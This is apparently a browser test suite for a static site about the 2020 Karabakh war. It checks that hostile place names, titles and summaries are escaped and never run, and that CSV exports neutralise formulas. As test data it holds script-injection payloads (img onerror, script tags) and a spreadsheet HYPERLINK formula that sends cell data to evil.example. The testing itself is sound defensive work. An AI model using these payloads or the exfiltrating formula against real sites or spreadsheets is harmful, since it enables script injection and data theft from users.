/**
 * Hostile content in Chromium: valid-minimal with tests/fixtures/hostile-names laid over it puts
 * HTML, script, attribute breakouts, `javascript:` text and spreadsheet formulas into place names,
 * event titles and summaries, claims, actors, sources, a document and a bulletin. Every payload
 * would set window.__pwned or open a dialog if it ran. The pages are loaded with the CSP bypassed,
 * so that what is tested is the escaping itself (the CSP is the second lock, tested with it on).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Browser, Page } from 'playwright-core';
import { cachedBuild, cleanup, contentWithFixture, type BuildResult } from '../helpers/build.ts';
import { launch, serve, watchedPage, type Served, type Watched } from '../helpers/browser.ts';
import { openClustersToAMarker } from '../helpers/map.ts';
import { HOSTILE_FIXTURE } from '../helpers/e2e-builds.ts';

let contentDir: string;
let build: BuildResult;
let server: Served;
let browser: Browser;

beforeAll(async () => {
  contentDir = contentWithFixture(HOSTILE_FIXTURE);
  build = await cachedBuild({ contentDir });
  if (build.status !== 0) throw new Error(`the hostile-names build failed:\n${build.output}`);
  server = await serve(build.outDir);
  browser = await launch();
});
afterAll(async () => {
  await browser?.close();
  await server?.close();
  if (build) cleanup(build.outDir);
  if (contentDir) rmSync(contentDir, { recursive: true, force: true });
});

const PAGES = [
  '',
  'timeline/',
  'events/2020-11-08-fixture-shusha/',
  'events/2020-11-10-fixture-in-force/',
  'days/2020-11-08/',
  'places/shusha/',
  'places/khankendi/',
  'actors/ilham-aliyev/',
  'actors/armenia-mod/',
  'sources/fixture-news/',
  'documents/fixture-hostile-statement/',
  'sources/',
  'map/',
  'search/?q=Shusha',
  'about/',
  'no-such-page/',
];

interface Hostile extends Watched {
  dialogs: string[];
}

/** A page that records every dialog (and dismisses it), with the CSP off unless asked for. */
async function hostilePage({ csp = false } = {}): Promise<Hostile> {
  const watched = await watchedPage(browser, { bypassCSP: !csp });
  const dialogs: string[] = [];
  watched.page.on('dialog', (d) => {
    dialogs.push(`${d.type()}: ${d.message()}`);
    void d.dismiss();
  });
  return { ...watched, dialogs };
}

async function expectNothingRan(h: Hostile) {
  expect(h.dialogs).toEqual([]);
  expect(await h.page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
  // A payload that ran as markup would also leave an element behind.
  expect(
    await h.page.locator('main img[src="x"], main iframe, main svg[onload], [onerror], [onmouseover]').count(),
  ).toBe(0);
}

async function open(page: Page, path: string) {
  await page.goto(`${server.url}${path}`, { waitUntil: 'networkidle' });
  if (path.startsWith('search/')) await page.waitForSelector('site-search[data-results]', { state: 'attached' });
  if (path === 'map/') await page.waitForSelector('control-map[data-ready="true"]', { state: 'attached' });
}

// Two pages at a time: most of a page's time here is the wait for its network to go quiet.
describe.concurrent('hostile names, titles and summaries on every page', () => {
  for (const path of PAGES) {
    it(`/${path} shows them as text and runs none of them`, async () => {
      const h = await hostilePage();
      await open(h.page, path);
      await expectNothingRan(h);
      await h.page.context().close();
    });
  }
});

describe.concurrent('with the CSP on', () => {
  for (const path of PAGES) {
    it(`/${path} does not even try to run them`, async () => {
      const h = await hostilePage({ csp: true });
      await open(h.page, path);
      expect(h.cspViolations, path).toEqual([]);
      await expectNothingRan(h);
      await h.page.context().close();
    });
  }
});

describe('hostile names, titles and summaries', () => {
  it('are shown as the literal text an editor wrote', async () => {
    const h = await hostilePage();
    await open(h.page, 'events/2020-11-08-fixture-shusha/');
    expect(await h.page.locator('h1').textContent()).toContain('<img src=x onerror="window.__pwned=17;alert(17)">');
    expect(await h.page.locator('main').textContent()).toContain(
      '<script>window.__pwned=9;alert(9)</script>Ilham Aliyev',
    );
    expect(await h.page.title()).toContain('<img src=x onerror=');
    await open(h.page, 'places/shusha/');
    expect(await h.page.locator('h1').textContent()).toContain('<img src=x onerror="window.__pwned=1;alert(1)">Shusha');
    await expectNothingRan(h);
  });

  it('the search box finds them and shows its excerpts escaped', async () => {
    const h = await hostilePage();
    await open(h.page, 'search/?q=pwned');
    expect(Number(await h.page.locator('site-search').getAttribute('data-results'))).toBeGreaterThan(0);
    expect(await h.page.locator('.search-results').textContent()).toMatch(/window\.__pwned/);
    await expectNothingRan(h);
  });

  it('on the map: labels, a hovered cell’s tooltip, the changes panel and a marker’s popup stay text', async () => {
    const h = await hostilePage();
    const { page } = h;
    await open(page, 'map/?date=2020-11-08&at=39.758,46.748');
    // Zoomed in far enough for settlement labels, which carry the place's name.
    await expect
      .poll(() => page.locator('.map-label.settlement').filter({ hasText: 'onerror' }).count())
      .toBeGreaterThan(0);
    await page.locator('path[data-cell="shusha"]').hover({ force: true });
    await expect
      .poll(() => page.locator('.leaflet-tooltip:not(.map-label)').filter({ hasText: '<img src=x onerror=' }).count())
      .toBeGreaterThan(0);
    await page.locator('input[name="range"][value="week"]').check();
    await page.waitForSelector('.leaflet-marker-icon');
    await openClustersToAMarker(page);
    await page.locator('.event-marker[tabindex="0"]').first().click();
    await expect.poll(() => page.locator('.leaflet-popup-content a').textContent()).toMatch(/onerror=|HYPERLINK/);
    // The "what changed" panel names the day's events.
    expect(await page.locator('.map-changes').textContent()).toContain('<img src=x onerror=');
    await expectNothingRan(h);
  });
});

describe('the CSV exports', () => {
  const FORMULA = /^[=+\-@\t\r]/;
  for (const file of ['events.csv', 'control.csv']) {
    it(`${file} neutralises every cell a spreadsheet would read as a formula`, () => {
      const rows = Papa.parse<string[]>(readFileSync(join(build.outDir, file), 'utf8'), { skipEmptyLines: true }).data;
      const cells = rows.flat();
      expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);
      // The fixture's formulas are there, each behind the apostrophe that makes it text.
      expect(cells.filter((c) => /^'[=+\-@\t\r]/.test(c)).length).toBeGreaterThanOrEqual(file === 'events.csv' ? 2 : 4);
    });
  }

  it('keeps the text of a neutralised cell whole', () => {
    const rows = Papa.parse<Record<string, string>>(readFileSync(join(build.outDir, 'events.csv'), 'utf8'), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows.find((r) => r.id === '2020-11-10-fixture-in-force')?.title).toBe(
      `'=HYPERLINK("https://evil.example/?leak="&A1,"Ceasefire in force")`,
    );
  });
});
